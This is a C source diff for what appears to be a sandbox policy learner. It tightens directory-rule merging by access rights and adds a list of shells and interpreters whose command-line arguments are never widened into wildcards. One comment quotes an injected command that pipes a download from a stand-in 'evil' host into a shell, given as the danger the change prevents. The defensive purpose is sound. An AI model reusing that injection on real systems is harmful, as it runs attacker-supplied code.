@@ -358,11 +358,6 @@ static int cmp_dir_item(const void *a, const void *b)
 	return strcmp(x->dir, y->dir);
 }
 
-static int cmp_str(const void *a, const void *b)
-{
-	return strcmp(*(char *const *)a, *(char *const *)b);
-}
-
 /* Every directory some entry lies below (not the root), deepest first, without repeats. */
 static int list_dirs(const struct entries *es, struct dir_item **ret, size_t *ret_n)
 {
@@ -405,43 +400,90 @@ oom:
 	return -ENOMEM;
 }
 
-/* Collapses dir when it has threshold or more distinct entries below it. */
+/* A name below a directory, and the rights it was seen with. */
+struct child {
+	char *name;
+	uint8_t rights;
+};
+
+static int cmp_child(const void *a, const void *b)
+{
+	const struct child *x = a, *y = b;
+	if (x->rights != y->rights)
+		return x->rights < y->rights ? -1 : 1;
+	return strcmp(x->name, y->name);
+}
+
+/*
+ * The rights that threshold or more distinct names below dir were seen
+ * with, each right set counted on its own: seven files read and one written
+ * give "dir/*" for reading, not for writing every file there. Names holding
+ * '?' or '*' (bytes a pattern could not say, or someone's "*") are not
+ * counted: whoever chose them could make as many as it takes.
+ */
+static uint8_t collapsible_rights(struct child *c, size_t n, size_t threshold)
+{
+	uint8_t rights = 0;
+	size_t distinct = 0;
+
+	if (n > 1)
+		qsort(c, n, sizeof(*c), cmp_child);
+	for (size_t i = 0; i < n; i++) {
+		if (i > 0 && c[i].rights != c[i - 1].rights)
+			distinct = 0;
+		if (strpbrk(c[i].name, "?*"))
+			continue;
+		if (i == 0 || c[i].rights != c[i - 1].rights ||
+		    strcmp(c[i].name, c[i - 1].name) != 0)
+			distinct++;
+		if (distinct >= threshold)
+			rights |= c[i].rights;
+	}
+	return rights;
+}
+
+/* Collapses dir when threshold or more distinct names below it share their rights. */
 static int collapse_dir(struct entries *es, const char *dir, const struct learn_options *o)
 {
 	size_t dlen = strlen(dir), below = 0;
-	_cleanup_free_ char **names = calloc(es->n ? es->n : 1, sizeof(char *));
+	_cleanup_free_ struct child *kids = calloc(es->n ? es->n : 1, sizeof(*kids));
 	bool nested = false;
 	int r = 0;
 
-	if (!names)
+	if (!kids)
 		return -ENOMEM;
 	for (size_t i = 0; i < es->n; i++) {
 		const char *g = es->v[i].glob;
 		if (es->v[i].dead || strncmp(g, dir, dlen) != 0 || g[dlen] != '/')
 			continue;
 		const char *child = g + dlen + 1, *slash = strchr(child, '/');
-		if (slash || strcmp(child, "**") == 0)
-			nested = true;
-		names[below] = strndup(child, slash ? (size_t)(slash - child) : strlen(child));
-		if (!names[below]) {
+		kids[below].name = strndup(child, slash ? (size_t)(slash - child) : strlen(child));
+		kids[below].rights = es->v[i].rights;
+		if (!kids[below].name) {
 			r = -ENOMEM;
 			goto out;
 		}
 		below++;
 	}
-	if (below > 1)
-		qsort(names, below, sizeof(char *), cmp_str);
-	size_t distinct = 0;
-	for (size_t i = 0; i < below; i++)
-		distinct += i == 0 || strcmp(names[i - 1], names[i]) != 0;
-	if (distinct < o->threshold || below == 0)
+	uint8_t rights = below ? collapsible_rights(kids, below, o->threshold) : 0;
+	if (!rights)
 		goto out;
+	/* What goes into the merged rule: entries its rights cover. */
+	for (size_t i = 0; i < es->n; i++) {
+		const char *g = es->v[i].glob;
+		if (es->v[i].dead || strncmp(g, dir, dlen) != 0 || g[dlen] != '/' ||
+		    (es->v[i].rights & ~rights))
+			continue;
+		const char *child = g + dlen + 1;
+		if (strchr(child, '/') || strcmp(child, "**") == 0)
+			nested = true;
+	}
 	if (nested && count_double_star(dir) >= GLOB_MAX_DOUBLE_STAR)
 		goto out;
 	if (dlen + 4 >= GLOB_MAX_LEN)
 		goto out;
 
-	struct entry merged = {0};
+	struct entry merged = {.rights = rights};
 	if (asprintf(&merged.glob, "%s/%s", dir, nested ? "**" : "*") < 0) {
 		r = -ENOMEM;
 		goto out;
@@ -452,9 +494,8 @@ static int collapse_dir(struct entries *es, const char *dir, const struct learn_
 		bool under = strncmp(g, dir, dlen) == 0 && g[dlen] == '/';
 		/* dir/** matches dir itself too. */
 		bool self = nested && strcmp(g, dir) == 0;
-		if (e->dead || !(under || self))
+		if (e->dead || !(under || self) || (e->rights & ~rights))
 			continue;
-		merged.rights |= e->rights;
 		meta_merge(&merged.meta, &e->meta);
 		e->dead = true;
 	}
@@ -468,7 +509,7 @@ static int collapse_dir(struct entries *es, const char *dir, const struct learn_
 	}
 out:
 	for (size_t i = 0; i < below; i++)
-		free(names[i]);
+		free(kids[i].name);
 	return r;
 }
 
@@ -942,6 +983,32 @@ static ssize_t code_arg(const char *path, char *const *argv, size_t argc)
 	return -1;
 }
 
+/*
+ * Programs whose arguments may be code, or another command line: shells and
+ * interpreters (whatever their options: "bash -euo pipefail -c CODE",
+ * "python3 -W ignore -c CODE", "perl -ne CODE" hide the code from
+ * code_arg()), and programs that run another one (env, timeout, xargs,
+ * find -exec, ...). Their arguments are never generalised: a '*' from two
+ * runs' different CODE, or from a temporary name inside it, would allow any
+ * command ("rm /tmp/tmp*" matches "rm /tmp/tmpx;curl evil|sh").
+ */
+static bool runs_code(const char *path)
+{
+	static const char *const others[] = {
+		"node",	  "nodejs",  "deno",	  "bun",   "perl",   "ruby",	 "php",
+		"lua",	  "Rscript", "awk",	  "gawk",  "mawk",   "nawk",	 "sed",
+		"env",	  "timeout", "nice",	  "nohup", "stdbuf", "setsid",	 "xargs",
+		"flock",  "sudo",    "su",	  "doas",  "chroot", "ionice",	 "taskset",
+		"strace", "time",    "script",	  "watch", "find",   "parallel", "busybox",
+		"java",	  "jshell",  "osascript", NULL};
+	static const char *const shells[] = {"sh",   "bash", "dash", "zsh", "ksh",  "ash",
+					     "mksh", "yash", "fish", "csh", "tcsh", NULL};
+	const char *name = base_name(path);
+	return name_in(name, shells) || name_in(name, others) || numbered(name, "python") ||
+	       numbered(name, "pypy") || numbered(name, "perl") || numbered(name, "ruby") ||
+	       numbered(name, "php") || numbered(name, "lua");
+}
+
 /* Rewrites an exec rule's path and arguments for generated names and variables. */
 static int exec_rewrite(struct exec_rule *e, const struct learn_options *o)
 {
@@ -958,7 +1025,8 @@ static int exec_rewrite(struct exec_rule *e, const struct learn_options *o)
 		e->glob = g;
 	}
 	ssize_t code = e->argv ? code_arg(e->glob, e->argv, e->argc) : -1;
-	for (size_t i = 0; e->argv && i < e->argc; i++) {
+	bool exact = runs_code(e->glob);
+	for (size_t i = 0; e->argv && i < e->argc && !exact; i++) {
 		if ((ssize_t)i == code)
 			continue;
 		char *a = learn_generalize_temp_name(e->argv[i], o);
@@ -970,11 +1038,18 @@ static int exec_rewrite(struct exec_rule *e, const struct learn_options *o)
 	return 0;
 }
 
-/* Rules that may merge: same program, argument count, and the same code argument. */
+/*
+ * Rules that may merge: same program, argument count, and the same code
+ * argument; never two different command lines of a program that runs code.
+ */
 static bool same_group(const struct exec_rule *a, const struct exec_rule *b)
 {
 	if (strcmp(a->path, b->path) != 0 || !a->argv != !b->argv || a->argc != b->argc)
 		return false;
+	if (a->argv && runs_code(a->glob))
+		for (size_t k = 0; k < a->argc; k++)
+			if (strcmp(a->argv[k], b->argv[k]) != 0)
+				return false;
 	ssize_t ca = a->argv ? code_arg(a->glob, a->argv, a->argc) : -1;
 	ssize_t cb = b->argv ? code_arg(b->glob, b->argv, b->argc) : -1;
 	if (ca != cb)
